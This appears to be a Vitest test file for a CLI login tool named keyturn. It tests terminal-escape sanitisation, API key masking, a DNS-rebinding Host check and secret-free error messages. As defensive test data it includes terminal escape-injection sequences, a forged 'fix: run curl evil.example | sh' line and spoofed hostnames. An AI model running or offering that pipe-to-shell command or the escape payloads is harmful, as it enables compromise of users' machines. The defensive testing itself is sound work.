import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createOutput } from '../../src/cli/output.js';
import { deviceInstructions } from '../../src/cli/commands/login-device.js';
import { parse } from '../../src/cli/program.js';
import { KeyturnError } from '../../src/core/errors.js';
import { maskSecret } from '../../src/core/credentials.js';
import { isServedHost } from '../../src/core/callback.js';
import { openBrowser } from '../../src/adapters/browser.js';
import { portInUseError } from '../../src/core/port-in-use.js';
import { hasActiveControl } from '../helpers/control-characters.js';

const ESC = '\u001b';
const ATTACK = `${ESC}]0;pwned\u0007${ESC}[2J`;

function terminal(isTTY: boolean) {
  const written: string[] = [];
  return { isTTY, write: (text: string) => written.push(text), text: () => written.join('') };
}

function outputs(options: { tty?: boolean; json?: boolean; debug?: boolean } = {}) {
  const stdout = terminal(options.tty ?? false);
  const stderr = terminal(options.tty ?? false);
  const output = createOutput({
    json: options.json ?? false,
    narrate: true,
    debug: options.debug ?? true,
    stdout,
    stderr,
    env: {},
  });
  return { output, stdout, stderr };
}

describe('the CLI output gate', () => {
  it('no way of writing lets outside text drive the terminal', () => {
    const { output, stdout, stderr } = outputs({ tty: false, json: true });
    output.info(`info ${ATTACK}`);
    output.warn(`warn ${ATTACK}`);
    output.step(`title ${ATTACK}`, `detail ${ATTACK}`);
    output.debug(`debug ${ATTACK}`);
    output.say(`say ${ATTACK}`, 'bold');
    output.result(`result ${ATTACK}`, 'ok');
    output.json({ description: `json ${ATTACK}\u009b2J` });
    output.error(new KeyturnError('access_denied', `message ${ATTACK}`, { fix: `fix ${ATTACK}` }));
    output.error(new Error(`unexpected ${ATTACK}`));
    for (const text of [stdout.text(), stderr.text()]) {
      expect(hasActiveControl(text)).toBe(false);
      expect(text).not.toContain('pwned\u0007');
    }
    for (const word of ['info', 'warn', 'title', 'detail', 'debug', 'say', 'message', 'fix', 'unexpected']) {
      expect(stderr.text()).toContain(`${word} `);
    }
    expect(stdout.text()).toContain('result ');
  });

  it('on a terminal, keyturn’s own colours survive the gate and the text inside them is inert', () => {
    const { output, stdout, stderr } = outputs({ tty: true });
    output.result(`✓ fine ${ATTACK}`, 'ok');
    output.say(`code ${ATTACK}`, 'bold');
    expect(stdout.text()).toBe(`${ESC}[32m✓ fine \ufffd\ufffd${ESC}[0m\n`);
    expect(stderr.text()).toBe(`${ESC}[1mcode \ufffd\ufffd${ESC}[0m\n`);
  });

  it('an error’s message and fix are one line each: a newline from outside cannot forge a `fix:` line', () => {
    const { output, stderr } = outputs({ debug: false });
    output.error(new KeyturnError('access_denied', 'denied\nfix: run curl evil.example | sh'));
    const lines = stderr.text().trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/^fix: /);
    expect(lines[1]).not.toContain('evil.example');
  });

  it('results go to stdout and progress to stderr', () => {
    const { output, stdout, stderr } = outputs();
    output.result('the result');
    output.info('progress');
    expect(stdout.text()).toBe('the result\n');
    expect(stderr.text()).toBe('progress\n');
  });
});

describe('the device instructions say the wait keyturn keeps', () => {
  const code = {
    verification_uri: 'https://id.example/device',
    verification_uri_complete: null,
    user_code: 'WDJB-MJHT',
    interval: 5,
    expires_in: 600,
  };
  const waiting = (lines: { text: string }[]) =>
    lines.map((l) => l.text).find((t) => t.startsWith('Waiting'));

  it('the code’s lifetime when no --timeout cuts it short', () => {
    expect(waiting(deviceInstructions(code))).toBe(
      'Waiting for approval (the code expires in 10 min; Ctrl-C to stop)…',
    );
  });

  it('both when --timeout is shorter', () => {
    expect(waiting(deviceInstructions(code, 300))).toBe(
      'Waiting for approval (the code expires in 10 min; waiting 5 min (--timeout); Ctrl-C to stop)…',
    );
  });

  it('`login --device` has no 300 s default of its own: the code’s lifetime rules', async () => {
    const parsed = await parse(['login', '--device']);
    if (typeof parsed === 'number') throw new Error('parsed to an exit code');
    expect((parsed.options as { timeout?: number }).timeout).toBeUndefined();
    const explicit = await parse(['login', '--device', '--timeout', '30']);
    if (typeof explicit === 'number') throw new Error('parsed to an exit code');
    expect((explicit.options as { timeout?: number }).timeout).toBe(30);
  });
});

describe('an API key’s mask never shows most of a short key', () => {
  it('a long key shows its kind and its last four', () => {
    expect(maskSecret('sk-proj-Zq8v3KkT1mYw9xLpR2cN7bHdE4fUa6sJ0gVoQiBt5abcd')).toBe('sk-…abcd');
    expect(maskSecret('ghp_0123456789abcdefghijklmnopqrstuvwxyz')).toBe('ghp_…wxyz');
    expect(maskSecret('0123456789abcdefghijklmnop')).toBe('…mnop');
    expect(maskSecret('a'.repeat(20))).toBe('…aaaa');
  });

  it('a key shorter than 20 characters shows nothing of itself', () => {
    expect(maskSecret('abcde-fgh')).toBe('…');
    expect(maskSecret('sk-0123456789abcde')).toBe('…');
    expect(maskSecret('a'.repeat(19))).toBe('…');
  });

  it('a long prefix is not a kind: it is the key', () => {
    expect(maskSecret('abcdefgh-0123456789abcdefgh')).toBe('…efgh');
  });
});

describe('the callback server’s Host check (DNS rebinding)', () => {
  it('serves the loopback names with the port in use', () => {
    for (const host of ['localhost:1455', '127.0.0.1:1455', '[::1]:1455', 'LOCALHOST:1455']) {
      expect(isServedHost(host, 1455), host).toBe(true);
    }
    expect(isServedHost('localhost', 80)).toBe(true);
  });

  it('refuses any other name, port, or none', () => {
    for (const host of [
      'evil.example:1455',
      '127.0.0.1.evil.example:1455',
      'localhost.evil.example:1455',
      'localhost:1456',
      'localhost:14555',
      'localhost',
      '::1:1455',
      '',
      undefined,
    ]) {
      expect(isServedHost(host, 1455), String(host)).toBe(false);
    }
  });
});

describe('opening the browser', () => {
  const env = { PATH: process.env.PATH };
  it('is false when the opener exits non-zero (xdg-open finds no browser: 3)', async () => {
    expect(await openBrowser('http://localhost/', { ...env, BROWSER: 'false' }, 'linux')).toBe(false);
  });
  it('is false when the opener does not exist', async () => {
    expect(await openBrowser('http://localhost/', { ...env, BROWSER: '/nonexistent/opener' }, 'linux')).toBe(
      false,
    );
  });
  it('is true when the opener exits 0, or keeps running as the browser itself', async () => {
    expect(await openBrowser('http://localhost/', { ...env, BROWSER: 'true' }, 'linux')).toBe(true);
    const dir = await mkdtemp(join(tmpdir(), 'keyturn-browser-'));
    try {
      const browser = join(dir, 'browser');
      await writeFile(browser, '#!/bin/sh\nexec sleep 30\n', { mode: 0o755 });
      expect(await openBrowser('http://localhost/', { ...env, BROWSER: browser }, 'linux', 200)).toBe(true);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('the holder of a busy port, in a message', () => {
  it('is named by process name and pid; its command line (arguments may be secrets) never shows', () => {
    const error = portInUseError({
      port: 1455,
      platform: 'linux',
      holder: { pid: 4242, name: 'node', command: 'node server.js --api-key=sk-in-argv-0123456789abcdef' },
    });
    expect(error.message).toContain('node (pid 4242)');
    for (const text of [
      error.message,
      error.fix,
      JSON.stringify(error.evidence),
      JSON.stringify(error.toJSON()),
    ]) {
      expect(text).not.toContain('sk-in-argv');
      expect(text).not.toContain('server.js');
    }
  });
});
